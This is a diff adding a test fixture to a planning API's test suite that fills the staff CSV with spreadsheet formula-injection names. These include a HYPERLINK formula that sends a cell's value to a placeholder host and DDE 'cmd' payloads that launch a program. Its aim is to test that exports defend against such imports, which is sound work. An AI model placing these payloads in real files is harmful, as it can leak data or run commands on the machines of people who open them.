@@ -61,3 +61,29 @@ export const longHistoryDir = (): string => {
   longDir = dir;
   return dir;
 };
+
+/** Staff names a spreadsheet would evaluate as formulas (one per civil servant of the good tables), and a negative-looking one. */
+export const HOSTILE_NAMES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Nguyễn Văn An")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '=1+1', '@A1'] as const;
+
+/**
+ * The long-history tables (longHistoryDir) with every civil servant's name replaced by one of
+ * HOSTILE_NAMES, written raw (quoted only where CSV needs it), as a hostile import would hold them;
+ * nobody is locked.
+ */
+let hostileDir: string | undefined;
+export const hostileNamesDir = (): string => {
+  if (hostileDir !== undefined) return hostileDir;
+  const long = longHistoryDir();
+  const dir = mkdtempSync(join(tmpdir(), 'planner-api-hostile-'));
+  for (const table of ['centers', 'fields', 'history']) writeFileSync(join(dir, `${table}.csv`), readFileSync(join(long, `${table}.csv`)));
+  const quote = (cell: string) => (/[",;\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
+  const [header, ...rows] = readFileSync(join(GOOD_DIR, 'staff.csv'), 'utf8').trim().split('\n');
+  const renamed = rows.map((line, i) => {
+    const [id, , ...rest] = line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
+    // Nobody locked, so the plan may move anyone and more hostile names reach the moves.
+    return [id, quote(HOSTILE_NAMES[i % HOSTILE_NAMES.length] as string), ...rest.slice(0, -1), 'false'].join(',');
+  });
+  writeFileSync(join(dir, 'staff.csv'), `${[header, ...renamed].join('\n')}\n`);
+  hostileDir = dir;
+  return dir;
+};
